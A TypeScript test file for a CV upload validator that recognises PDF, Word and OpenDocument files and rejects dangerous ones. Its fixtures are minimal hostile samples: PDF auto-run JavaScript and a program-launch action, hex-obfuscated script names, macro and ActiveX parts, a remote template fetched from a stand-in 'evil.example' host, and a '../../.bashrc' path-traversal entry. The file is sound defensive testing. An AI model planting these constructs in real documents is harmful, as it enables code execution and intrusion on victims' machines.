import { expect, test } from "vitest";
import { cvTypeOf } from "./cv-type.ts";
import { openDocumentParts, pdfOf, wordParts, zipOf } from "./documents.fixture.ts";

const extensionOf = (bytes: Uint8Array | string) =>
  cvTypeOf(typeof bytes === "string" ? Buffer.from(bytes, "latin1") : bytes)?.extension;
const text = (bytes: Uint8Array) => Buffer.from(bytes).toString("latin1");

test("a PDF, a Word document and an OpenDocument text are known by how they are built", () => {
  expect(extensionOf(pdfOf("Ada"))).toBe(".pdf");
  expect(extensionOf(zipOf(wordParts))).toBe(".docx");
  expect(extensionOf(zipOf(wordParts, { stored: true }))).toBe(".docx");
  expect(extensionOf(zipOf(openDocumentParts))).toBe(".odt");
});

test("letters that stand in a picture by chance refuse no CV", () => {
  for (const line of ["\n", "\r\n"]) {
    const picture = `<</Filter/DCTDecode/Length 9>>${line}stream${line}\xff/JS \x00 #2fJS${line}endstream`;
    expect(extensionOf(pdfOf(`${picture}\n${picture}`))).toBe(".pdf");
  }
});

const good = text(pdfOf("Ada"));
test.each<[string, string]>([
  ["words that a PDF begins with", "%PDF-1.7 and nothing else"],
  ["one without its end", good.slice(0, -8)],
  ["one with something after its end", `${good}<script>alert(1)</script>`],
  ["one with a page before its beginning", `<html>${good}`],
  ["one whose table stands elsewhere", good.replace(/startxref\n\d+/, "startxref\n12")],
  ["one that runs a script", text(pdfOf("/OpenAction<</S/JavaScript/JS(app.alert(1))>>"))],
  ["one that starts a program", text(pdfOf("<</S/Launch/F(calc.exe)>>"))],
  [
    "one that writes a script's name by numbers",
    text(pdfOf("/OpenAction<</S/#4aava#53cript/J#53(app.alert(1))>>")),
  ],
  ["one with a script behind a stream", text(pdfOf("<<>>stream\nx\nendstream <</JS(x)>>"))],
  ["one with a script before a stream", text(pdfOf("<</JS(x)>>stream\nx\nendstream"))],
  ["one with a script behind a stream without an end", text(pdfOf("<<>>stream\n<</JS(x)>>"))],
  ["one with a script behind the word alone", text(pdfOf("stream\n<</JS(x)>>endstream"))],
  ["one with a file in it", text(pdfOf("<</Type/EmbeddedFile>>"))],
])("%s is no CV", (_, bytes) => {
  expect(extensionOf(bytes)).toBeUndefined();
});

const { "word/document.xml": _document, ...headless } = wordParts;
test.each<[string, Buffer]>([
  ["a package of anything", zipOf({ "readme.txt": "PK\x03\x04 word/document.xml" })],
  ["a Word document without a document", zipOf(headless)],
  ["one with macros", zipOf({ ...wordParts, "word/vbaProject.bin": "x" })],
  [
    "one that says that it has macros",
    zipOf({
      ...wordParts,
      "[Content_Types].xml":
        "wordprocessingml.document.main+xml application/vnd.ms-word.document.macroEnabled.main+xml",
    }),
  ],
  ["one with a control", zipOf({ ...wordParts, "word/activeX/activeX1.xml": "x" })],
  ["one with an object of another program", zipOf({ ...wordParts, "word/embeddings/a.xlsx": "x" })],
  [
    "one that fetches its template",
    zipOf({
      ...wordParts,
      "word/_rels/settings.xml.rels":
        '<Relationship Type="x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>',
    }),
  ],
  ["one that leads out of its folder", zipOf({ ...wordParts, "../../.bashrc": "x" })],
  ["one with something before it", Buffer.concat([Buffer.from("MZ"), zipOf(wordParts)])],
  ["one with something after it", Buffer.concat([zipOf(wordParts), Buffer.from("x")])],
  ["an OpenDocument text with a program", zipOf({ ...openDocumentParts, "Basic/x.xml": "x" })],
  [
    "an OpenDocument table",
    zipOf({ ...openDocumentParts, mimetype: "application/vnd.oasis.opendocument.spreadsheet" }),
  ],
  ["half a package", zipOf(wordParts).subarray(0, 200)],
])("%s is no CV", (_, bytes) => {
  expect(extensionOf(bytes)).toBeUndefined();
});

test("of any bytes a verdict comes, and at once", () => {
  let seed = 7;
  const random = () => {
    seed = (seed * 1_103_515_245 + 12_345) % 2_147_483_648;
    return seed;
  };
  const whole = zipOf(wordParts);
  for (let turn = 0; turn < 2_000; turn += 1) {
    const broken = Buffer.from(turn % 2 === 0 ? whole : pdfOf("Ada"));
    for (let change = 0; change < 3; change += 1) broken[random() % broken.length] = random() % 256;
    expect(() => cvTypeOf(broken.subarray(0, broken.length - (random() % 3)))).not.toThrow();
  }
});
